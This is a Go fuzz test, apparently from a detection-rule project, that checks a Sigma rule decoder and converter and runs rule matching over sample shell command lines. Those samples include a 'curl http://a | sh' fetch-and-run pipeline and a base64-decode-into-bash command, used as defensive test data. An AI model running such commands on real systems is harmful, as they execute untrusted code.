package sigma_test

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/decnet/ttp/rules"
	"github.com/decnet/ttp/rules/sigma"
	"github.com/decnet/ttp/shell"
)

// FuzzSigmaRule: the decoder never panics, and a rule it accepts always converts into a file
// the rule linter accepts, whose detection evaluates without panicking.
func FuzzSigmaRule(f *testing.F) {
	files, _ := filepath.Glob(filepath.Join(fixtures, "*.yml"))
	for _, p := range files {
		data, err := os.ReadFile(p)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(data)
	}
	f.Add([]byte("title: x\nid: 11111111-2222-3333-4444-555555555555\nlogsource: {product: linux, category: process_creation}\ntags: [attack.t1059]\ndetection: {s: {CommandLine|windash|contains: ' -x -y '}, condition: not s}\n"))
	lines := []string{"", "id", "sudo -u x nice /bin/sh -c 'curl http://a | sh'", "echo $(uname -a) | base64 -d | bash", "a'b\"c"}
	f.Fuzz(func(t *testing.T, data []byte) {
		r, err := sigma.Decode("f.yml", data)
		if err != nil {
			return
		}
		out, err := sigma.Convert(r, "R5000")
		if err != nil {
			return // too large for a rule file: Import lists it as skipped
		}
		rule, err := rules.Parse("R5000.yaml", out)
		if err != nil {
			t.Fatalf("converted rule does not lint: %v\n%s", err, out)
		}
		if !rule.IsStructure() {
			t.Fatal("a converted rule is evaluated on the command structure")
		}
		for _, s := range lines {
			l := shell.Parse(s)
			for i := range l.Commands {
				r.Detection.Match(l, i)
			}
		}
	})
}
